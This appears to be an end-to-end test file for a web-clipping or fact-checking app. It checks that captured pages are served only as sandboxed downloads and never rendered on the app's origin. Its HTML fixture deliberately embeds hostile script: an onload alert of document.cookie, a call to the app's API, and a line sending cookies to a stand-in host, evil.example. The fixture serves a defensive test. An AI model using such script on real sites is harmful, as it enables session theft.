import { readFile } from "node:fs/promises";
import { expect, test } from "./fixtures/test";
import { createTestClaim } from "./fixtures/claims";
import { createTestWorkspace, signIn, type TestWorkspace } from "./fixtures/workspace";
import { readWorkspaceSettings } from "@/lib/data/workspaces/workspaces";
import { importWebPage } from "@/lib/workflows/web-import/import-web-page";
import { createTestCapture } from "@test-support/captures";

// A viewer reads an article clipped from the web: where and when it was captured, the capture history,
// and the original as a file, which the app hands over as a download and never shows as a page.
const URL_SEEN = "https://news.example.org/2026/mosul-after-the-battle";
const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Mosul after the battle</title>
<script>document.title = "run on the app's origin"; fetch("/api/v1/workspaces")</script></head>
<body onload="alert(document.cookie)"><nav>Home | World | Sport</nav><article><h1>Mosul after the battle</h1>
<p>Nearly 900,000 people fled the city during the nine-month battle for Mosul, the United Nations said on Monday.</p>
<p>At the height of its rule in 2015, the group controlled territory where about 12 million people lived, according to officials.</p>
<p>Reconstruction of the old city will take years, engineers told reporters who toured the ruins of the western districts.</p>
</article><script>new Image().src = "https://evil.example/?c=" + document.cookie</script></body></html>`;

let workspace: TestWorkspace;
let claimUrl: string;
test.beforeAll(async () => {
  workspace = await createTestWorkspace({ withCorpus: false });
  const outcome = await importWebPage({
    actor: workspace.users.EDITOR,
    slug: workspace.slug,
    page: { method: "CLIP", requestedUrl: URL_SEEN, finalUrl: URL_SEEN, httpStatus: null, contentType: "text/html; charset=utf-8", charset: null, bytes: new TextEncoder().encode(PAGE), text: PAGE, capturedAt: new Date("2026-11-20T10:15:00Z") },
  });
  if (outcome.status !== "imported") throw new Error(`The page was not imported: ${JSON.stringify(outcome)}`);
  // A later check found a changed text that nobody applied yet.
  const { id: workspaceId } = await readWorkspaceSettings({ actor: workspace.users.OWNER, slug: workspace.slug });
  await createTestCapture({
    workspaceId, articleId: outcome.articleId, body: "A changed text.",
    capture: { method: "FETCH", requestedUrl: URL_SEEN, finalUrl: URL_SEEN, httpStatus: 200, capturedAt: new Date("2026-11-27T06:00:00Z"), applied: false, pendingChange: true },
  });
  claimUrl = (await createTestClaim(workspace, { article: /Mosul after the battle/, quote: "about 12 million people", statement: "About 12 million people lived under IS rule in 2015" })).url;
});

test("a viewer sees where the article was captured, its history, and downloads the original as a file", async ({ page }) => {
  await signIn(page, workspace.users.VIEWER.email);
  await page.goto(`/w/${workspace.slug}/articles`);
  await page.getByRole("link", { name: /Mosul after the battle/ }).click();

  const capture = page.getByTestId("article-capture");
  await expect(capture).toContainText(`Captured from ${URL_SEEN} on 20 Nov 2026`);
  const source = capture.getByRole("link", { name: URL_SEEN });
  await expect(source).toHaveAttribute("href", URL_SEEN);
  await expect(source).toHaveAttribute("rel", "noopener noreferrer nofollow");

  const [original] = await Promise.all([page.waitForEvent("download"), capture.getByRole("link", { name: "Download original" }).click()]);
  expect(original.suggestedFilename()).toMatch(/^news\.example\.org-2026-11-20-[0-9a-f]{8}\.html$/);
  expect(await readFile((await original.path())!, "utf8")).toBe(PAGE);
  // The app's page is still the app's: nothing of the captured page ran here.
  await expect(page).toHaveTitle(/Mosul after the battle/);

  await capture.getByText("Capture history (2)").click();
  const rows = capture.getByRole("row");
  await expect(rows).toHaveCount(3);
  await expect(rows.nth(1)).toContainText("20 Nov 2026, 10:15 UTC");
  await expect(rows.nth(1)).toContainText("Clipped");
  await expect(rows.nth(1)).toContainText("Applied: the text shown");
  await expect(rows.nth(2)).toContainText("Fetched");
  await expect(rows.nth(2)).toContainText("200");
  await expect(rows.nth(2)).toContainText("Change pending");
  await page.locator("article header").screenshot({ path: "/tmp/article-capture-header.png" });
  const [later] = await Promise.all([page.waitForEvent("download"), capture.getByRole("link", { name: "Download the original of 27 Nov 2026, 06:00 UTC" }).click()]);
  expect(later.suggestedFilename()).toMatch(/^news\.example\.org-2026-11-27-[0-9a-f]{8}\.html$/);

  // Opened directly, the original is still a file: bytes the browser must not sniff, sandboxed should it try.
  const href = await capture.getByRole("link", { name: "Download original" }).getAttribute("href");
  const answer = await page.request.get(href!);
  expect(answer.status()).toBe(200);
  expect(answer.headers()["content-type"]).toBe("application/octet-stream");
  expect(answer.headers()["x-content-type-options"]).toBe("nosniff");
  expect(answer.headers()["content-security-policy"]).toMatch(/^sandbox; default-src 'none'/);
  expect(answer.headers()["content-disposition"]).toMatch(/^attachment; filename="news\.example\.org-2026-11-20-/);
});

test("the claim page says which capture the claim was marked on, and hands it over", async ({ page }) => {
  await signIn(page, workspace.users.REVIEWER.email);
  await page.goto(claimUrl);
  const marked = page.getByTestId("claim-capture");
  await expect(marked).toHaveText("Marked on the capture of 20 Nov 2026 of the article's web page.");
  const [file] = await Promise.all([page.waitForEvent("download"), marked.getByRole("link", { name: "capture of 20 Nov 2026" }).click()]);
  expect(file.suggestedFilename()).toMatch(/^news\.example\.org-2026-11-20-[0-9a-f]{8}\.html$/);
});

test("an editor exports the workspace with its captured originals, or leaves them out for a smaller file", async ({ page }) => {
  await signIn(page, workspace.users.EDITOR.email);
  await page.goto(`/w/${workspace.slug}/reports`);
  await page.getByRole("radio", { name: /Workspace JSON/ }).check();
  const exportJson = async () => {
    const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download", exact: true }).click()]);
    return JSON.parse(await readFile((await file.path())!, "utf8")) as { captures: { bytes?: string; sha256: string }[] };
  };
  const full = await exportJson();
  expect(full.captures).toHaveLength(2);
  expect(Buffer.from(full.captures[0]!.bytes!, "base64").toString("utf8")).toBe(PAGE);

  await page.getByRole("checkbox", { name: /Leave out captured originals \(smaller file\)/ }).check();
  const small = await exportJson();
  expect(small.captures.map((capture) => capture.sha256)).toEqual(full.captures.map((capture) => capture.sha256));
  expect(small.captures.every((capture) => capture.bytes === undefined)).toBe(true);
});
